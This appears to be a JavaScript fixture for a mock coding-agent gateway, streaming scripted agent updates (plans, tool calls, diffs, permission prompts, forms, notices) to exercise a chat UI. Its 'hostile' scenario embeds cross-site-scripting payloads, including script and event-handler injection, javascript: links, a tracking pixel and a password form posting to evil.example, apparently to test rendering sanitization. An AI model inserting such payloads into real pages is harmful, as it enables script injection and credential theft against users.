/**
 * What the mock gateway's agent does, by the first word of a prompt: one scenario for each state of the page.
 */

const text = (value) => ({ type: "text", text: value });
const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

const HOSTILE = [
  "# Hostile <script>window.hacked = 1</script>",
  '<img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg>',
  '<iframe src="javascript:parent.hacked=4"></iframe>',
  "[a link](javascript:window.hacked=5) [data](data:text/html,<script>hacked=6</script>)",
  "[good](https://example.com/a?b=c) ![tracker](https://evil.example/pixel.png)",
  "<style>body{display:none}</style> <form action=https://evil.example><input name=password></form>",
  '<a href="https://example.com" onclick="window.hacked=7" style="position:fixed;inset:0">cover</a>',
  "```js\n</code></pre><script>window.hacked = 8</script>\n```",
].join("\n\n");

const REPLY = `Here is what I found.

## The reader

The parser walks the text **once** and keeps a *stack* of open marks:

\`\`\`python
def parse(text: str) -> list[Token]:
    """Read the text once."""
    stack: list[Mark] = []
    for line in text.splitlines():
        if line.startswith("#"):
            stack.append(Mark("heading", level=len(line) - len(line.lstrip("#"))))
    return [mark.token() for mark in stack]
\`\`\`

| part | lines | state |
|---|---|---|
| reader | 120 | done |
| writer | 80 | to do |

1. It is *small*.
2. It is [documented](https://example.com/docs).
3. \`parse\` never raises.
`;

const OLD = "def greet(name):\n    print('Hello ' + name)\n\n\ndef main():\n    greet('world')\n\n\nmain()\n";
const NEW =
  "def greet(name: str) -> None:\n    print(f'Hello {name}!')\n\n\ndef main() -> None:\n" +
  "    greet('world')\n    greet('you')\n\n\nif __name__ == '__main__':\n    main()\n";

export const TERMINAL_OUTPUT =
  "\u001b[1m============ test session starts ============\u001b[0m\ncollected 5 items\n\n" +
  "tests/test_reader.py \u001b[32m....\u001b[0m\u001b[31mF\u001b[0m  \u001b[36m[100%]\u001b[0m\n\n" +
  "\u001b[31m\u001b[1mE   AssertionError: 3 != 4\u001b[0m\n" +
  "\u001b[33m1 failed\u001b[0m, \u001b[32m4 passed\u001b[0m in 0.12s\n";

const PLAN = ["Read the reader and its tests", "Type the functions", "Run the tests"];

function plan(done) {
  return {
    sessionUpdate: "plan",
    entries: PLAN.map((content, index) => ({
      content,
      priority: index === 0 ? "high" : "medium",
      status: index < done ? "completed" : index === done ? "in_progress" : "pending",
    })),
  };
}

async function stream(turn, kind, value, delay = 8) {
  for (const chunk of value.match(/[\s\S]{1,12}/g) ?? []) {
    if (turn.cancelled) return;
    turn.update({ sessionUpdate: kind, content: text(chunk) });
    await wait(delay);
  }
}

const OPTIONS = [
  { optionId: "once", name: "Allow once", kind: "allow_once" },
  { optionId: "always", name: "Always allow", kind: "allow_always" },
  { optionId: "no", name: "Reject", kind: "reject_once" },
  { optionId: "never", name: "Always reject", kind: "reject_always" },
];

async function edit(turn, id) {
  const change = { type: "diff", path: `${turn.cwd}/src/greet.py`, oldText: OLD, newText: NEW };
  turn.update({
    sessionUpdate: "tool_call",
    toolCallId: id,
    title: "Edit src/greet.py",
    kind: "edit",
    status: "pending",
    locations: [{ path: `${turn.cwd}/src/greet.py`, line: 1 }],
  });
  const answer = await turn.permission({
    toolCall: { toolCallId: id, title: "Edit src/greet.py", kind: "edit", content: [change] },
    options: OPTIONS,
  });
  const allowed =
    answer.outcome.outcome === "selected" && ["once", "always"].includes(answer.outcome.optionId);
  turn.update({
    sessionUpdate: "tool_call_update",
    toolCallId: id,
    status: allowed ? "completed" : "failed",
    content: allowed ? [change] : [{ type: "content", content: text("The user rejected the change.") }],
  });
}

export const SCENARIOS = {
  async demo(turn) {
    await stream(
      turn,
      "agent_thought_chunk",
      "The user wants typed functions. First I look at the reader, then at its tests.",
    );
    turn.update(plan(0));
    turn.update({
      sessionUpdate: "tool_call",
      toolCallId: "read",
      title: "Read src/reader.py",
      kind: "read",
      status: "in_progress",
      locations: [{ path: `${turn.cwd}/src/reader.py` }],
    });
    await wait(80);
    turn.update({
      sessionUpdate: "tool_call_update",
      toolCallId: "read",
      status: "completed",
      content: [{ type: "content", content: text("```python\nimport re\n```") }],
    });
    turn.update(plan(1));
    await stream(turn, "agent_message_chunk", REPLY);
    await edit(turn, "edit");
    turn.update(plan(2));
    turn.update({
      sessionUpdate: "tool_call",
      toolCallId: "run",
      title: "pytest -q",
      kind: "execute",
      status: "in_progress",
      content: [{ type: "terminal", terminalId: "t1" }],
    });
    await wait(600);
    turn.update({ sessionUpdate: "tool_call_update", toolCallId: "run", status: "failed" });
    turn.update({
      sessionUpdate: "usage_update",
      used: 48200,
      size: 200000,
      cost: { amount: 0.31, currency: "USD" },
    });
    turn.update(plan(3));
    await stream(turn, "agent_message_chunk", "One test fails; the expected value is wrong.");
  },
  async ask(turn) {
    await edit(turn, `edit-${turn.number}`);
    await stream(turn, "agent_message_chunk", "Thank you.");
  },
  async form(turn) {
    const answer = await turn.elicitation({
      mode: "form",
      message: "How should the package be published?",
      requestedSchema: {
        type: "object",
        properties: {
          name: {
            type: "string",
            title: "Name",
            minLength: 3,
            maxLength: 40,
            pattern: "^[a-z-]+$",
            description: "Lower-case letters and hyphens",
          },
          kind: {
            type: "string",
            title: "Kind",
            oneOf: [
              { const: "lib", title: "Library" },
              { const: "app", title: "Application" },
            ],
          },
          places: {
            type: "array",
            title: "Places",
            items: { type: "string", enum: ["PyPI", "npm", "GitHub"] },
            minItems: 1,
          },
          count: { type: "integer", title: "Copies", minimum: 1, maximum: 9, default: 2 },
          public: { type: "boolean", title: "Public", default: true },
        },
        required: ["name", "kind"],
      },
    });
    await stream(turn, "agent_message_chunk", `Answer: \`${JSON.stringify(answer)}\``);
  },
  async link(turn) {
    const answer = await turn.elicitation({
      mode: "url",
      message: "Sign in to the tracker.",
      elicitationId: `link-${turn.number}`,
      url: "https://example.com/sign-in?state=abc",
    });
    await stream(turn, "agent_message_chunk", `Answer: ${answer.action}`);
  },
  /** `long LINES MILLISECONDS`: many lines, with a pause after each. */
  async long(turn, words) {
    const count = Number(words[1] ?? 40);
    for (let index = 1; index <= count && !turn.cancelled; index += 1) {
      turn.update({ sessionUpdate: "agent_message_chunk", content: text(`Line ${index} of the story.\n\n`) });
      await wait(Number(words[2] ?? 25));
    }
  },
  /** Answers with everything after the first word, as Markdown. */
  async show(turn) {
    await stream(turn, "agent_message_chunk", turn.text.slice("show".length).trim(), 1);
  },

  async hostile(turn) {
    turn.update({
      sessionUpdate: "tool_call",
      toolCallId: "evil",
      title: "<img src=x onerror=hacked=9>",
      kind: "execute",
      status: "completed",
      content: [{ type: "content", content: text(HOSTILE) }],
    });
    await stream(turn, "agent_message_chunk", HOSTILE, 0);
  },
  async notice(turn) {
    turn.update({
      sessionUpdate: "notice",
      severity: "warning",
      title: "The model is slow today",
      description: "Answers may take longer than usual.",
    });
    turn.update({
      sessionUpdate: "compaction_update",
      compactionId: "c1",
      status: "completed",
      summary: [text("We talked about the reader.")],
    });
  },
};
